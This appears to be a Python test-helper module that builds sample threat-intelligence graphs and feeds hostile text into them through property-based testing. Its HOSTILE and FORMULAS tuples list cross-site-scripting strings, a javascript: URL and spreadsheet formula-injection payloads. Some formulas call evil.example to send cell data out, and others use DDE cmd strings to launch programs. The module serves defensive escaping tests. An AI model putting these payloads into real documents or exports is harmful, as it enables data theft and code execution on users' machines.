"""Graphs and strategies that tests of several packages use."""

from __future__ import annotations

import string

from hypothesis import strategies as st

from graphbuild.graph.builder import build_graph
from graphbuild.models import Entity, Observation, is_object_id

EMOTET = Entity("file", "ab" * 32, {"seed": True, "state": "complete", "size": 5120})
LOADER = Entity("file", "cd" * 20, {"seed": False, "meaningful_name": "load & run.exe"})
UNKNOWN = Entity("file", "ef" * 16, {"seed": True, "state": "not found"})
REPORT = Entity(
    "reference",
    "01" * 32,
    {
        "title": "Emotet – a <i>history</i> & more",
        "url": "https://Blog.Example.org:8443/2018/01/emotet?a=1&b=2",
        "author": "Zoë Ünal",
        "creation_date": 1_515_715_200,  # 2018-01-12 00:00:00 UTC
    },
)
TALK = Entity("reference", "23" * 32, {"title": "LODEINFO at 10:00", "url": "javascript:alert(1)"})
BARE = Entity("reference", "45" * 32)
GANG = Entity(
    "collection",
    "malpedia_win_emotet",
    {
        "name": "win.emotet",
        "collection_type": "malware-family",
        "origin": "Partner",
        "tags": "a; b",
    },
)
OTHERS = Entity("collection", "alienvault_5a5", {"name": "Spam run", "targets": 12, "shown": True})

OBSERVATIONS = (
    Observation(EMOTET, REPORT, GANG),
    Observation(EMOTET, REPORT, OTHERS),
    Observation(EMOTET, REPORT, None),
    Observation(LOADER, REPORT, OTHERS),
    Observation(LOADER, TALK, GANG),
    Observation(EMOTET, BARE, None),
)


def campaign():
    """Return a graph of three files, three references and two collections."""
    return build_graph(OBSERVATIONS, subjects=(EMOTET, LOADER, UNKNOWN))


def with_title(*titles, **attributes):
    """Return a graph of one file with one reference per title."""
    return build_graph(
        Observation(EMOTET, Entity("reference", f"{n:064x}", {"title": t, **attributes}), GANG)
        for n, t in enumerate(titles)
    )


# Rows I7 to I13 of the corpus of bad input: texts of titles, authors and URLs.
HOSTILE = (
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "a href b",
    "{{7*7}} ${x}",
    '=HYPERLINK("http://evil.example","x")',
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\u00a0=1",
    "\ufeff=1",
    "\0=1",
    "＝1＋1",
    "＠x",
    "﹣1",
    "'=1",
    "''-1",
    "'quoted'",
    "a;b,c\"d'e",
    "lone\rcr",
    "cr\r\nlf",
    "ls\u2028nel\u0085",
    "NA",
    "null",
    "nan",
    "001234",
    "1E5",
    "TRUE",
    "12345678901234567",
    "\u202egnp.exe\u2066\u2069",
    "\u200b",
    "x" + "\u0301" * 500,
    "🦠 שלום",
    "\x1b]52;c;aGk=\x07",
    "\x1b[2J\n2026 ERROR",
    "vbscript:x",
    "https:\thttps://evil.example",
    "https://user:pw@\u0430pple.example:99999/",
    "http://[::1",
    "x" * 10_240,
    "a]]>b",
    "&lt;a&gt; &amp; b",
    "  two  spaces  ",
    "\ud800 alone",
    "\ufffe\uffff",
    "LODEINFO",
    "",
    " ",
)
# More texts that some spreadsheet reads as a formula, in a cell or behind a separator.
FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    '=WEBSERVICE("http://evil.example/")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "{=1+1}",
    '"=1+1',
    "'=1+1",
    "\t=1+1",
    "\r=1+1",
    "\r\n=1+1",
    " =1+1",
    "＝1+1",
    "a;=1+1;b",
    "a\t=1+1\tb",
    "a\n=1+1;b",
    "x\r\n=1+1;=2+2",
    '";=1+1',
    '"\t=1+1',
    '";"=1+1;',
    "a;'=1+1;b",
    "a; \ufeff=1+1;b",
    "a|=1+1|b",
    "a| =1+1",
    'a|"=1+1|',
    "a =1+1 b",
    "a =1+1",
    'a "=1+1 ',
    "a:=1+1:b",
    "a: =1+1",
)

any_text = st.one_of(
    st.sampled_from(HOSTILE),
    st.text(st.characters(exclude_categories=()), max_size=120),
)
_ID_CHARACTERS = st.characters(
    categories=("L", "M", "N", "P", "S"), exclude_characters="\"'`<>&\\/?#%"
)
odd_ids = st.one_of(
    st.sampled_from(["-1", "1", "e\u0301", "\u00e9", "CON", "a:b", "A", "a", "=x", "'", "]]", "r"]),
    st.text(_ID_CHARACTERS, min_size=1, max_size=20).filter(is_object_id),
)
_names = st.sampled_from(
    ["title", "url", "author", "name", "origin", "tags", "state", "sha256", "size", "color", "x"]
) | st.text(string.printable, min_size=1, max_size=12).filter(lambda n: n not in _CONTRACT)
_CONTRACT = {"type", "id", "label"}
_values = any_text | st.booleans() | st.integers() | st.floats()
_attributes = st.dictionaries(_names, _values, max_size=4)


def _entities(*types):
    return st.builds(Entity, st.sampled_from(types), odd_ids, _attributes)


@st.composite
def hostile_graphs(draw):
    """Draw small graphs in which every text is hostile."""
    observations = st.builds(
        Observation,
        _entities("file"),
        _entities("reference"),
        st.none() | _entities("collection", "x-odd_type"),
    )
    return build_graph(draw(st.lists(observations, max_size=6)))
